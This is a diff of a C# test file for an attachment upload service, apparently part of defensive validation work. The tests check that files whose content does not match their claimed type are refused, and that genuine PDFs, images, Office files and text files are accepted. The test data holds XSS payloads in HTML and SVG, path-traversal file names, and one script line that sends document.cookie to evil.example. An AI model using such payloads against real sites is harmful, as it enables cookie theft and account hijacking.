@@ -14,6 +14,15 @@ public sealed class AttachmentStoreTests(AzuriteFixture fixture)
 {
     private static readonly byte[] Pdf = Encoding.ASCII.GetBytes("%PDF-1.7\n% test document\n1 0 obj << >> endobj\n%%EOF\n");
 
+    // A PNG signature and IHDR chunk (1×1, 8-bit RGB); a JPEG SOI and JFIF APP0 segment.
+    private static readonly byte[] PngBytes =
+    [
+        0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0x00, 0x00, 0x00, 0x0D, 0x49, 0x48, 0x44, 0x52,
+        0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x01, 0x08, 0x02, 0x00, 0x00, 0x00, 0x90, 0x77, 0x53, 0xDE,
+    ];
+
+    private static readonly byte[] JpegBytes = [0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10, 0x4A, 0x46, 0x49, 0x46, 0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00, 0xFF, 0xD9];
+
     public static TheoryData<string, byte[], string?> Hostile => new()
     {
         { "empty", [], "report.pdf" },
@@ -26,7 +35,51 @@ public sealed class AttachmentStoreTests(AzuriteFixture fixture)
         { "name-invalid", Pdf, "..\\windows\\system.ini" },
         { "name-invalid", Pdf, "" },
         { "name-invalid", Pdf, "a\u0000b.pdf" },
+        { "type-not-allowed", Pdf, "setup.exe" },
+        { "type-not-allowed", Encoding.UTF8.GetBytes("plain notes"), "README" },
     };
+
+    private static readonly byte[] Html = Encoding.UTF8.GetBytes("<!doctype html><html><body><script>alert(1)</script></body></html>");
+    private static readonly byte[] Svg = Encoding.UTF8.GetBytes("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>");
+    private static readonly byte[] Script = Encoding.UTF8.GetBytes("<script>document.location='https://evil.example/?c='+document.cookie</script>");
+
+    /// <summary>Content that is not the type its name claims: markup dressed as documents or images, and real files misnamed.</summary>
+    public static TheoryData<string, byte[], string> Disguised => new()
+    {
+        { "html", Html, "report.pdf" },
+        { "svg", Svg, "photo.png" },
+        { "script", Script, "scan.jpg" },
+        { "html", Html, "合同.docx" },
+        { "svg after a BOM and blank lines", [0xEF, 0xBB, 0xBF, .. "\r\n\n  "u8, .. Svg], "报表.xlsx" },
+        { "xml-declared svg", Encoding.UTF8.GetBytes("<?xml version=\"1.0\"?><svg/>"), "logo.png" },
+        { "html", Html, "notes.txt" },
+        { "svg", Svg, "notes.txt" },
+        { "html comment", Encoding.UTF8.GetBytes("<!-- hi --><img src=x onerror=alert(1)>"), "说明.txt" },
+        { "pdf", Pdf, "名单.txt" },
+        { "png", PngBytes, "photo.jpg" },
+        { "jpeg", JpegBytes, "scan.pdf" },
+        { "office zip", OfficeZip(), "营业执照.pdf" },
+    };
+
+    [Theory]
+    [MemberData(nameof(Disguised))]
+    public async Task UploadAsync_ContentNotTheTypeItsNameClaims_RefusedNamingAcceptedTypesWithNothingStored(string content, byte[] bytes, string fileName)
+    {
+        using var harness = await WorkflowHarness.StartAsync(fixture);
+
+        var result = await harness.Attachments.UploadAsync(new MemoryStream(bytes), fileName);
+
+        var refused = Assert.IsType<AttachmentUploadResult.Refused>(result);
+        Assert.True(refused.Code == "type-mismatch", $"{content} as {fileName}: {refused.Code}");
+        foreach (var extension in new[] { ".pdf", ".png", ".jpg", ".jpeg", ".docx", ".xlsx", ".txt" })
+        {
+            Assert.Contains(extension, refused.Reason, StringComparison.Ordinal);
+            Assert.Contains(extension, refused.ReasonZh, StringComparison.Ordinal);
+        }
+
+        Assert.Empty(await BlobsAsync(harness, "uploads-pending"));
+        Assert.Empty(await BlobsAsync(harness, "attachments"));
+    }
 
     [Theory]
     [MemberData(nameof(Hostile))]
@@ -41,26 +94,35 @@ public sealed class AttachmentStoreTests(AzuriteFixture fixture)
         Assert.Empty(await BlobsAsync(harness, "attachments"));
     }
 
-    [Fact]
-    public async Task UploadAsync_TypesByMagicBytes_NotByNameOrClaim()
+    /// <summary>Each accepted type, with its real first bytes and an extension that claims it, stored as that type.</summary>
+    public static TheoryData<byte[], string, string> Accepted => new()
+    {
+        { Pdf, "营业执照.pdf", "application/pdf" },
+        { PngBytes, "现场照片.png", "image/png" },
+        { JpegBytes, "scan.jpg", "image/jpeg" },
+        { JpegBytes, "SCAN.JPEG", "image/jpeg" },
+        { OfficeZip(), "情况说明.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document" },
+        { OfficeZip(), "报表.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet" },
+        { Encoding.UTF8.GetBytes("企业情况说明：贷款尚未发放。"), "说明.txt", "text/plain; charset=utf-8" },
+        { Encoding.UTF8.GetBytes("<备注> 金额 < 500 万元，详见附件"), "备注.txt", "text/plain; charset=utf-8" },
+    };
+
+    // Replaces UploadAsync_TypesByMagicBytes_NotByNameOrClaim, which stored a PDF named 名单.txt and a PNG named
+    // photo.jpg under their sniffed types: a file must now also be what its name claims (issue 16), see Disguised.
+    [Theory]
+    [MemberData(nameof(Accepted))]
+    public async Task UploadAsync_AcceptedTypeWithRealMagicBytes_StoredAsThatType(byte[] content, string fileName, string contentType)
     {
         using var harness = await WorkflowHarness.StartAsync(fixture);
 
-        var pdf = await StoreAsync(harness, Pdf, "名单.txt");
-        var png = await StoreAsync(harness, [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 13], "photo.jpg");
-        var jpeg = await StoreAsync(harness, [0xFF, 0xD8, 0xFF, 0xE0, 0, 16], "scan.jpeg");
-        var text = await StoreAsync(harness, Encoding.UTF8.GetBytes("企业情况说明：贷款尚未发放。"), "说明.txt");
-        var xlsx = await StoreAsync(harness, OfficeZip(), "报表.xlsx");
+        var stored = await StoreAsync(harness, content, fileName);
 
-        Assert.Equal("application/pdf", pdf.ContentType);
-        Assert.Equal("名单.txt", pdf.FileName);
-        Assert.Equal("image/png", png.ContentType);
-        Assert.Equal("image/jpeg", jpeg.ContentType);
-        Assert.StartsWith("text/plain", text.ContentType, StringComparison.Ordinal);
-        Assert.Equal("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", xlsx.ContentType);
-        Assert.Equal(Convert.ToHexStringLower(SHA256.HashData(Pdf)), pdf.Sha256);
-        Assert.Equal(Pdf.Length, pdf.Size);
-        Assert.DoesNotContain("名单", pdf.Id, StringComparison.Ordinal);
+        Assert.Equal(contentType, stored.ContentType);
+        Assert.Equal(fileName, stored.FileName);
+        Assert.Equal(Convert.ToHexStringLower(SHA256.HashData(content)), stored.Sha256);
+        Assert.Equal(content.Length, stored.Size);
+        Assert.DoesNotContain(Path.GetFileNameWithoutExtension(fileName), stored.Id, StringComparison.Ordinal);
+        Assert.Single(await BlobsAsync(harness, "uploads-pending"));
     }
 
     [Fact]
